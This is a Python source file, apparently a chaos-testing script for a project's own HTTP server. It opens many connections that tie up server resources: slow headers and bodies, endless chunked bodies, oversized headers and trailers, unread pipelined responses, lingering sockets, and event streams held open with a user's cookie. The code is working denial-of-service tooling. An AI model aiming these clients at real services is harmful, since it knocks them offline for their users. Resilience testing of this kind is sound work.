"""Hostile clients: each kind uses up a resource of a server, again and again, until it is stopped."""

from __future__ import annotations

import contextlib
import select
import signal
import socket
import sys
import threading
import time
from collections.abc import Mapping
from dataclasses import dataclass, field

from scripts.chaos.connection import Address

_SLICE = 65_536
_PAUSE_MS = 100
_LINGERING = 400


@dataclass(frozen=True, slots=True)
class Target:
    """`address` is attacked; `cookie` and `turn` are those of a user with a large answer."""

    address: Address
    cookie: str = ""
    turn: int = 0


@dataclass(frozen=True, slots=True)
class Kind:
    """A kind of connection: it sends `opening`, then `repeated` without end; with `drip`, a byte a second.

    `clients` connections at a time, and a new one for each that the server closes. `reads`: whether answers are read.
    `stays`: whether a connection that the server has closed stays open at this side as long as possible.
    """

    clients: int
    opening: bytes
    repeated: bytes = b""
    drip: bool = False
    reads: bool = True
    stays: bool = False


@dataclass
class _Client:
    sock: socket.socket
    rest: bytearray = field(default_factory=bytearray)


class Attack:
    """One kind, in a thread of its own. A context manager. `closed` counts connections that the server ended."""

    def __init__(self, kind: Kind, target: Target) -> None:
        self._kind = kind
        self._target = target
        self._poll = select.poll()
        self._clients: dict[int, _Client] = {}
        self._open_sockets: list[socket.socket] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self.sent = self.closed = self.connected = 0

    def __enter__(self) -> Attack:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def _run(self) -> None:
        dripped_at = 0.0
        while not self._stop.is_set():
            self._connect()
            if self._kind.drip and time.monotonic() - dripped_at >= 1.0:
                dripped_at = time.monotonic()
                for client in list(self._clients.values()):
                    self._send(client, 1)
            for number, events in self._poll.poll(_PAUSE_MS):
                self._look(self._clients[number], events)
        for client in list(self._clients.values()):
            self._forget(client).close()
        for sock in self._open_sockets:
            sock.close()

    def _look(self, client: _Client, events: int) -> None:
        hung_up = events & (select.POLLERR | select.POLLHUP | select.POLLRDHUP | select.POLLNVAL)
        if hung_up or (events & select.POLLIN and not self._read(client)):
            self._ended(client)
        elif events & select.POLLOUT:
            self._send(client, _SLICE)

    def _connect(self) -> None:
        while len(self._clients) < self._kind.clients and not self._stop.is_set():
            sock = socket.socket()
            if not self._kind.reads:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.settimeout(2)
            try:
                sock.connect((self._target.address.host, self._target.address.port))
            except OSError:
                sock.close()
                return
            sock.setblocking(False)
            self._clients[sock.fileno()] = _Client(sock, bytearray(self._kind.opening))
            self.connected += 1
            self._watch(sock, sends=not self._kind.drip)

    def _watch(self, sock: socket.socket, *, sends: bool) -> None:
        reads = select.POLLIN if self._kind.reads else 0
        self._poll.register(sock, select.POLLRDHUP | reads | (select.POLLOUT if sends else 0))

    def _send(self, client: _Client, most: int) -> None:
        if not client.rest:
            client.rest += self._kind.repeated
        if not client.rest:
            self._watch(client.sock, sends=False)
            return
        try:
            sent = client.sock.send(client.rest[:most])
        except BlockingIOError:
            return
        except OSError:
            self._ended(client)
            return
        self.sent += sent
        del client.rest[:sent]

    def _read(self, client: _Client) -> bool:
        """Read received bytes. Return False at the end of the connection."""
        with contextlib.suppress(BlockingIOError):
            try:
                return bool(client.sock.recv(_SLICE))
            except ConnectionError:
                return False
        return True

    def _ended(self, client: _Client) -> None:
        self.closed += 1
        sock = self._forget(client)
        if self._kind.stays and len(self._open_sockets) < _LINGERING:
            self._open_sockets.append(sock)
        else:
            sock.close()

    def _forget(self, client: _Client) -> socket.socket:
        self._poll.unregister(client.sock)
        del self._clients[client.sock.fileno()]
        return client.sock


_HEALTH = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
_POST = b"POST /api/conversations HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
_CHUNKED = b"Transfer-Encoding: chunked\r\n\r\n"
_TINY_CHUNK = b"1\r\nx\r\n"


def kinds(target: Target) -> Mapping[str, Kind]:
    """Return the attacks by name."""
    follow = b"GET /api/turns/%d/events HTTP/1.1\r\nHost: localhost\r\nCookie: %b\r\n\r\n"
    deaf = follow % (target.turn, target.cookie.encode())
    return {
        "unread chunks": Kind(2, _HEALTH + _CHUNKED, _TINY_CHUNK * 10_000),
        "unread length": Kind(2, _HEALTH + b"Content-Length: 100000000000\r\n\r\n", b"x" * _SLICE),
        "tiny chunks": Kind(2, _POST + _CHUNKED, _TINY_CHUNK * 10_000),
        "chunk extension": Kind(2, _POST + _CHUNKED + b"1", b";a=b" * 10_000),
        "trailers": Kind(2, _POST + _CHUNKED + b"0\r\n", b"A: b\r\n" * 10_000),
        "header lines": Kind(2, _HEALTH, b"A: b\r\n" * 10_000),
        "header line": Kind(2, _HEALTH + b"A: ", b"b" * _SLICE),
        "pipelined": Kind(2, b"", (_HEALTH + b"\r\n") * 1_000, reads=False),
        "slow heads": Kind(50, _HEALTH + b"A: ", b"b", drip=True),
        "slow bodies": Kind(50, _POST + b"Content-Length: 100000\r\n\r\n", b" ", drip=True),
        "silent": Kind(50, b"", b"", drip=True),
        "never closing": Kind(4, _HEALTH + b"Connection: close\r\n\r\n", stays=True),
        "deaf followers": Kind(50, deaf, reads=False),
    }


def main(arguments: list[str]) -> None:
    """Attack until TERM. The arguments are `HOST PORT COOKIE TURN NAME…`."""
    host, port, cookie, turn, *names = arguments
    target = Target(Address(host, int(port)), cookie, int(turn))
    every = kinds(target)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    with contextlib.ExitStack() as attacks:
        for name in names:
            attacks.enter_context(Attack(every[name], target))
        print("attacking", flush=True)
        threading.Event().wait()


if __name__ == "__main__":
    main(sys.argv[1:])
